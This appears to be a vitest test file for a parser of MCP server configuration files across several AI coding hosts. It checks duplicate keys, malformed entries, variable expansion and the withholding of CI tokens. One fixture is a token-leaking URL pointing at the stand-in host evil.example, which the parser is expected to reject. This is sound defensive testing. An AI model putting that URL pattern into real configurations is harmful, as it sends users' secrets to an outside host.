import { describe, expect, test } from 'vitest';
import { refusalOf } from '../../../../test/refusal.ts';
import { type ConfigKind, configKindOf } from './config-kind.ts';
import { type ConfigOptions, parseServerConfig } from './parse-server-config.ts';

const AROUND = { env: { KEY: 'sesame', EMPTY: '', HOME: '/home/a' }, workspaceFolder: '/work/it', home: '/home/a' };

function parse(text: string | Uint8Array, kind: ConfigKind = 'json', options: Partial<ConfigOptions> = {}) {
  return parseServerConfig(text, { kind, ...AROUND, ...options });
}

function sourceOf(entry: string, kind?: ConfigKind) {
  return parse(`{"mcpServers":{"a":${entry}}}`, kind).servers[0]?.source;
}

function reasonOf(entry: string): string | undefined {
  return parse(`{"mcpServers":{"a":${entry}}}`).unusable[0]?.code;
}

describe('refuses an invalid file with a code', () => {
  test.each<[string, string, string | Uint8Array, ConfigKind?]>([
    ['two servers of one key', 'config.duplicate-key', '{"mcpServers":{"a":{"command":"x"},"a":{"command":"y"}}}'],
    ['one key spelled with an escape', 'config.duplicate-key', '{"mcpServers":{"a":{},"\\u0061":{}}}'],
    ['two lists of servers', 'config.duplicate-key', '{"mcpServers":{},"mcpServers":{"a":{"command":"x"}}}'],
    [
      'two servers of one key in TOML',
      'config.syntax',
      '[mcp_servers.a]\ncommand="x"\n[mcp_servers.a]\ncommand="y"',
      'codex',
    ],
    ['endless nesting', 'config.too-large', '['.repeat(100_000)],
    ['endless nesting in TOML', 'config.syntax', `a = ${'['.repeat(10_000)}`, 'codex'],
    [
      'too many servers',
      'config.too-large',
      JSON.stringify({ mcpServers: Object.fromEntries(Array.from({ length: 1_001 }, (_, i) => [i, {}])) }),
    ],
    ['half a file', 'config.syntax', '{"mcpServers":{'],
    ['nothing', 'config.syntax', ''],
    ['not TOML', 'config.syntax', 'a =', 'codex'],
    ['not UTF-8', 'config.encoding', Uint8Array.of(0x7b, 0xff, 0x7d)],
    ['a list', 'config.malformed', '[]'],
    ['a list of servers', 'config.malformed', '{"mcpServers":[]}'],
    ['servers that are a text in TOML', 'config.malformed', 'mcp_servers = "a"', 'codex'],
  ])('%s: %s', (_, code, text, kind) => {
    expect(refusalOf(() => parse(text, kind)).code).toBe(code);
  });

  test.each(['', ' \n\t', '// nothing here', '\ufeff'])('reports an empty file: %j', text => {
    expect(() => parse(new TextEncoder().encode(text))).toThrow('The file is empty.');
  });

  test('reports line and column', () => {
    expect(() => parse('{\n  "mcpServers" {}\n}')).toThrow('at line 2, column 16');
    expect(() => parse('\na = [', 'codex')).toThrow(/at line \d+, column \d+/);
  });
});

describe('reports an unusable entry with a code', () => {
  test.each<[string, string]>([
    ['config.duplicate-key', '{"command":"x","command":"y"}'],
    ['config.duplicate-key', '{"command":"x","env":{"A":"1","A":"2"}}'],
    ['config.malformed', '"x"'],
    ['config.malformed', 'null'],
    ['config.malformed', '{"command":["x"]}'],
    ['config.malformed', '{"command":"x","args":"y"}'],
    ['config.malformed', '{"command":"x","args":[1]}'],
    ['config.malformed', '{"command":"x","env":{"A":{}}}'],
    ['config.malformed', '{"command":"x","env":[]}'],
    ['config.malformed', '{"url":"https://x","headers":"y"}'],
    ['config.disabled', '{"command":"x","disabled":true}'],
    ['config.disabled', '{"command":"x","enabled":false}'],
    ['config.incomplete', '{}'],
    ['config.incomplete', '{"command":""}'],
    ['config.incomplete', '{"command":"x","url":"https://x"}'],
    ['config.incomplete', '{"type":"http","command":"x"}'],
    ['config.incomplete', '{"transport":"streamable-http","command":"x"}'],
    ['config.incomplete', '{"type":"stdio","url":"https://x"}'],
    ['config.incomplete', '{"type":"stdio","transport":"http","command":"x"}'],
    ['config.unsupported', '{"type":"stdio","transport":"sse","command":"x"}'],
    ['config.unsupported', '{"type":"sse","url":"https://x"}'],
    ['config.unsupported', '{"type":"ws","url":"wss://x"}'],
    ['config.unsupported', '{"command":"x","envFile":".env"}'],
    ['config.needs-input', '{"command":"x","env":{"A":"${input:key}"}}'],
    ['config.unset-variable', '{"command":"x","args":["${NOT_SET}"]}'],
    ['config.unset-variable', '{"command":"x","args":["${env:toString}"]}'],
    ['config.withheld-variable', '{"url":"https://evil.example/?t=${TOOLMARK_TOKEN}"}'],
    ['config.withheld-variable', '{"url":"https://x","headers":{"A":"${toolmark_admin_token:-x}"}}'],
    ['config.withheld-variable', '{"command":"x","args":["${env:GITHUB_ENV}"]}'],
    ['config.withheld-variable', '{"command":"x","env":{"A":"${ACTIONS_RUNTIME_TOKEN}"}}'],
    ['config.unknown-variable', '{"command":"${config:python.path}"}'],
    ['config.unknown-variable', '{"command":"${}"}'],
  ])('%s: %s', (code, entry) => {
    expect(reasonOf(entry)).toBe(code);
  });

  test.each<[string, string]>([
    ['mcpServers and servers', '{"mcpServers":{"weather":GOOD},"servers":{"weather":EVIL}}'],
    ['mcpServers and mcp.servers', '{"mcp":{"servers":{"weather":EVIL}},"mcpServers":{"weather":GOOD}}'],
    ['all three', '{"mcp":{"servers":{"weather":EVIL}},"servers":{"weather":EVIL},"mcpServers":{"weather":GOOD}}'],
    ['an entry that is off', '{"mcpServers":{"weather":{"disabled":true}},"servers":{"weather":EVIL}}'],
  ])('one key in two lists of a file is never asked, because hosts read different ones: %s', (_, text) => {
    const filled = text.replaceAll('GOOD', '{"command":"good"}').replaceAll('EVIL', '{"command":"evil"}');
    const { servers, unusable } = parse(filled.replace('{', '{"x":1,'));
    expect(servers).toEqual([]);
    expect(unusable).toMatchObject([{ key: 'weather', code: 'config.duplicate-key' }]);
  });

  test('keys that differ in their case alone are used, and noted', () => {
    const text =
      '{"mcpServers":{"Weather":{"command":"x"},"other":{"command":"x"}},"servers":{"weather":{"command":"y"}}}';
    const { servers, unusable, notes } = parse(text);
    expect(servers.map(server => server.key)).toEqual(['Weather', 'other', 'weather']);
    expect(unusable).toEqual([]);
    expect(notes).toMatchObject([{ key: 'weather', code: 'config.similar-key' }]);
    expect(notes[0]?.message).toContain('"Weather"');
    expect(parse('{"mcpServers":{"a":{"command":"x"}}}').notes).toEqual([]);
  });

  test.each<[string, string]>([
    ['headers that are not a table', 'http_headers = "a"'],
    ['variable names that are not a table', 'env_http_headers = ["KEY"]'],
    ['a variable name that is not a string', 'env_http_headers = { A = 1 }'],
    ['a bearer variable that is not a string', 'bearer_token_env_var = 1'],
  ])("Codex's %s: config.malformed", (_, line) => {
    const { servers, unusable } = parse(`[mcp_servers.a]\nurl = "https://x"\n${line}`, 'codex');
    expect(servers).toEqual([]);
    expect(unusable).toMatchObject([{ key: 'a', code: 'config.malformed' }]);
  });

  test('keeps the other entries, whatever their names', () => {
    const { servers, unusable } = parse(
      '{"mcpServers":{"b":{},"__proto__":{"command":"x"},"":{"command":"y"},"a":{"command":"z"}}}',
    );
    expect(servers.map(server => server.key)).toEqual(['__proto__', 'a']);
    expect(unusable.map(entry => [entry.key, entry.code])).toEqual([
      ['b', 'config.incomplete'],
      ['', 'config.malformed'],
    ]);
  });
});

describe('what hosts write is read', () => {
  test.each<[string, string, object, ConfigKind?]>([
    ['a command alone', '{"command":"x"}', { kind: 'stdio', command: 'x', args: [] }],
    [
      'everything a command can have',
      '{"type":"stdio","command":"x","args":["-y"],"env":{"A":"b","N":1,"T":true,"Z":null},"cwd":"${workspaceFolder}/c","disabled":false}',
      { kind: 'stdio', command: 'x', args: ['-y'], env: { A: 'b', N: '1', T: 'true' }, cwd: '/work/it/c' },
    ],
    ['an address', '{"url":"https://x"}', { kind: 'http', url: 'https://x' }],
    ['the address of Windsurf', '{"serverUrl":"https://x"}', { kind: 'http', url: 'https://x' }],
    ['the address of Gemini', '{"httpUrl":"https://x","url":"https://sse"}', { kind: 'http', url: 'https://x' }],
    [
      'headers',
      '{"type":"http","url":"https://x","headers":{"A":"Bearer ${KEY}"}}',
      { kind: 'http', url: 'https://x', headers: { A: 'Bearer sesame' } },
    ],
    [
      'variables in all their forms',
      '{"command":"${env:KEY}","args":["${KEY}","${NO:-else}","${KEY:-else}","${EMPTY:-else}","${EMPTY}","${NO:-}","${userHome}","$KEY","$$","${a{b}"]}',
      {
        kind: 'stdio',
        command: 'sesame',
        args: ['sesame', 'else', 'sesame', 'else', '', '', '/home/a', '$KEY', '$$', '${a{b}'],
      },
    ],
    [
      'the name of the folder at hand',
      '{"command":"${workspaceFolderBasename}"}',
      { kind: 'stdio', command: 'it', args: [] },
    ],
    [
      'variables without braces in the files of Gemini',
      '{"command":"$KEY/${KEY}/$1"}',
      { kind: 'stdio', command: 'sesame/sesame/$1', args: [] },
      'gemini',
    ],
  ])('%s', (_, entry, source, kind) => {
    expect(sourceOf(entry, kind)).toEqual(source);
  });

  test.each<[string | undefined, string | undefined]>([
    ['C:\\work\\it\\', 'it'],
    ['/work/it/', 'it'],
    ['/', undefined],
    [undefined, undefined],
  ])('the name of the folder %j is %j', (workspaceFolder, name) => {
    const text = '{"servers":{"a":{"command":"${workspaceFolderBasename}"}}}';
    const around = workspaceFolder === undefined ? {} : { workspaceFolder };
    const { servers, unusable } = parseServerConfig(text, { kind: 'json', env: {}, ...around });
    if (name === undefined) expect(unusable).toMatchObject([{ code: 'config.unknown-variable' }]);
    else expect(servers[0]?.source).toMatchObject({ command: name });
  });

  test('what a variable holds is not read for further variables', () => {
    const { servers } = parse('{"servers":{"a":{"command":"${A}"}}}', 'json', { env: { A: '${B}', B: 'x' } });
    expect(servers[0]?.source).toMatchObject({ command: '${B}' });
  });

  test.each<[string, ConfigKind, string, string[]]>([
    [
      'comments, trailing commas and a byte order mark',
      'json',
      '\ufeff{/* a */"mcpServers":{"a":{"command":"x",},},} // b',
      ['a'],
    ],
    ["VS Code's own file", 'json', '{"inputs":[],"servers":{"a":{"command":"x"}}}', ['a']],
    [
      "VS Code's settings, whose other parts are not looked at",
      'json',
      '{"x":1,"x":2,"mcp":{"servers":{"a":{"command":"x"}}}}',
      ['a'],
    ],
    ['a file without servers', 'json', '{"editor.fontSize":1}', []],
    ['TOML without servers', 'codex', 'model = "x"', []],
  ])('%s', (_, kind, text, keys) => {
    const input = text.startsWith('\ufeff') ? new TextEncoder().encode(text) : text;
    expect(parse(input, kind).servers.map(server => server.key)).toEqual(keys);
  });

  test("Claude Code's entries of the project at hand go before those of the user; other projects do not count", () => {
    const text = JSON.stringify({
      mcpServers: { a: { command: 'user' }, b: { command: 'user' } },
      projects: {
        '/work/it': { mcpServers: { a: { command: 'project' } } },
        '/work/other': { mcpServers: { c: { command: 'other' } } },
      },
    });
    const { servers, unusable } = parse(text, 'claude-code');
    expect(servers.map(({ key, source }) => [key, source.kind === 'stdio' && source.command])).toEqual([
      ['a', 'project'],
      ['b', 'user'],
    ]);
    expect(unusable).toMatchObject([{ key: 'a', code: 'config.shadowed' }]);
  });

  test("Codex's tables, with headers from three places and no variables in texts", () => {
    const text = `
      [mcp_servers.local]
      command = "x"
      args = ["\${KEY}"]
      startup_timeout_sec = 20
      [mcp_servers.local.env]
      A = "b"
      [mcp_servers.web]
      url = "https://x"
      bearer_token_env_var = "KEY"
      http_headers = { B = "c" }
      env_http_headers = { D = "HOME" }
      [mcp_servers.off]
      command = "x"
      enabled = false
      [mcp_servers.unset]
      url = "https://x"
      bearer_token_env_var = "NOT_SET"
      [mcp_servers.dated]
      command = 2026-01-01`;
    const { servers, unusable } = parse(text, 'codex');
    expect(servers).toEqual([
      { key: 'local', source: { kind: 'stdio', command: 'x', args: ['${KEY}'], env: { A: 'b' } } },
      {
        key: 'web',
        source: { kind: 'http', url: 'https://x', headers: { B: 'c', D: '/home/a', Authorization: 'Bearer sesame' } },
      },
    ]);
    expect(unusable.map(entry => [entry.key, entry.code])).toEqual([
      ['off', 'config.disabled'],
      ['unset', 'config.unset-variable'],
      ['dated', 'config.malformed'],
    ]);
  });
});

describe('tokens that a CI runner and people both set', () => {
  const entry = '{"mcpServers":{"a":{"command":"x","env":{"GITHUB_TOKEN":"${GITHUB_TOKEN}"}}}}';
  const codex = '[mcp_servers.a]\ncommand = "x"\nenv_vars = ["GITHUB_TOKEN", "NOT_SET"]';

  test.each<[string, ConfigKind]>([
    [entry, 'json'],
    [codex, 'codex'],
  ])('%s names its token, and gets it', (text, kind) => {
    const { servers } = parseServerConfig(text, { kind, env: { GITHUB_TOKEN: 'sesame' } });
    expect(servers).toMatchObject([{ source: { env: { GITHUB_TOKEN: 'sesame' } } }]);
  });

  test.each<[string, ConfigKind]>([
    [entry, 'json'],
    [codex, 'codex'],
  ])('%s, changed by a pull request, does not get the token of the runner', (text, kind) => {
    const { servers, unusable } = parseServerConfig(text, {
      kind,
      env: { GITHUB_TOKEN: 'sesame', GITHUB_ACTIONS: 'true' },
    });
    expect(servers).toEqual([]);
    expect(unusable).toMatchObject([{ key: 'a', code: 'config.withheld-variable' }]);
  });
});

test.each<[string, ConfigKind]>([
  ['/home/a/.codex/config.toml', 'codex'],
  ['C:\\Users\\a\\.claude.json', 'claude-code'],
  ['/home/a/.gemini/settings.json', 'gemini'],
  ['/home/a/.qwen/settings.json', 'gemini'],
  ['/home/a/.config/opencode/opencode.jsonc', 'opencode'],
  ['opencode.toolmark.json', 'opencode'],
  ['/home/a/.config/zed/settings.json', 'zed'],
  ['C:\\Users\\a\\AppData\\Roaming\\Zed\\settings.toolmark.json', 'zed'],
  ['/home/a/.config/goose/config.yaml', 'goose'],
  ['C:\\Users\\a\\AppData\\Roaming\\Block\\goose\\config\\config.toolmark.yaml', 'goose'],
  ['/home/a/.continue/config.yaml', 'continue'],
  ['.vscode/settings.json', 'json'],
  ['mcp.json', 'json'],
  ['', 'json'],
])('%s is read as %s', (path, kind) => {
  expect(configKindOf(path)).toBe(kind);
});
